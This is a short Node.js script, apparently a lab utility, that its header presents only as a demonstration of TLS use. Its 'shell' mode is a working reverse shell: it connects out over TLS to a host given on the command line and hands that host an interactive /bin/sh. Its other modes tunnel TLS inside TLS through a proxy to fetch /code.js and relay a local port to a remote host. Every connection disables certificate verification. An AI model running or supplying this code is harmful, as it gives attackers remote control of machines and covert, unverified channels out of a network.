// SPDX-License-Identifier: LGPL-2.1-or-later
// What Node programs do with TLS: `get HOST PORT TARGET`, TLS inside TLS through a proxy; `shell HOST PORT`;
// `local PORT HOST PORT`, a relay.
const net = require("net");
const tls = require("tls");
const { spawn } = require("child_process");
const [role, ...words] = process.argv.slice(2);
const trusting = { rejectUnauthorized: false, servername: "lab.example" };
if (role === "get") {
  const [host, port, target] = words;
  const outer = tls.connect({ host, port: Number(port), ...trusting }, () => {
    outer.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\nConnection: close\r\n\r\n`);
    outer.once("data", () => {
      const inner = tls.connect({ socket: outer, ...trusting }, () => {
        inner.write(`GET /code.js HTTP/1.1\r\nHost: ${target}\r\nConnection: close\r\n\r\n`);
      });
      inner.resume();
      inner.on("end", () => process.exit(0));
    });
  });
} else if (role === "shell") {
  const there = tls.connect({ host: words[0], port: Number(words[1]), ...trusting }, () => {
    const child = spawn("/bin/sh", ["-i"]);
    there.pipe(child.stdin);
    child.stdout.pipe(there);
    child.stderr.pipe(there);
    child.on("exit", () => process.exit(0));
  });
} else {
  net.createServer((caller) => {
    const there = tls.connect({ host: words[1], port: Number(words[2]), ...trusting });
    caller.pipe(there).pipe(caller);
    for (const one of [caller, there]) one.on("error", () => caller.destroy());
  }).listen(Number(words[0]), "127.0.0.1");
}
